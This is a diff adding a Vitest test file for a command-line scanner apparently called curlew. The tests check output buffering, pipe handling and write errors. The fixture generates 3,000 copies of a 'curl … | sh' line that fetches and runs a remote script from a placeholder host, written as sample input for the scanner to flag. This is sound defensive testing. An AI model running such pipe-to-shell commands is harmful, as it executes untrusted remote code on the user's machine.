@@ -1,0 +1,52 @@
+import { closeSync, mkdtempSync, openSync, readFileSync, rmSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterEach, beforeEach, expect, it } from "vitest";
+import { writeAll } from "../../src/cli/write-now.js";
+import { bash } from "./process.js";
+
+let folder = "";
+beforeEach(() => {
+  folder = mkdtempSync(join(tmpdir(), "curlew-streams-"));
+});
+afterEach(() => rmSync(folder, { recursive: true }));
+
+it("writes bytes to a descriptor, and says what went wrong", () => {
+  const path = join(folder, "out");
+  const descriptor = openSync(path, "w");
+  const text = "ä".repeat(100_000);
+  expect(writeAll(descriptor, Buffer.from(text))).toBeNull();
+  closeSync(descriptor);
+  expect(readFileSync(path, "utf8")).toBe(text);
+  const reading = openSync(path, "r");
+  expect(writeAll(reading, Buffer.from("x"))).toMatchObject({ code: "EBADF" });
+  closeSync(reading);
+});
+
+const FINDINGS = "for i in $(seq 3000); do echo 'curl https://x.example/i.sh | sh'; done > many.sh";
+
+it.each([
+  ["a file", "curlew scan many.sh > out; echo $? >> out; cat out"],
+  ["a pipe that is read slowly", "{ curlew scan many.sh; echo $?; } | { sleep 1; cat; }"],
+])("a long answer arrives whole in %s, with its status behind it", async (_, line) => {
+  const { stdout } = await bash(`${FINDINGS}; ${line}`, { cwd: folder });
+  expect(stdout.match(/^many\.sh:/gm)).toHaveLength(3000);
+  expect(stdout).toMatch(/3000 findings in 1 of 1 text\n1\n$/);
+});
+
+it("a reader that leaves ends the answer without a message, and the status stays", async () => {
+  const { stdout, stderr } = await bash(
+    `${FINDINGS}; { curlew scan many.sh; echo $? > status; } | head -n 1; cat status`,
+    { cwd: folder },
+  );
+  expect(stdout).toMatch(/^many\.sh:1:1: .*\n1\n$/);
+  expect(stderr).toBe("");
+});
+
+it("what cannot be written is an error", async () => {
+  const { stdout, stderr } = await bash(`${FINDINGS}; curlew scan many.sh > /dev/full; echo $?`, {
+    cwd: folder,
+  });
+  expect(stdout).toBe("2\n");
+  expect(stderr).toContain("cannot write standard output");
+});
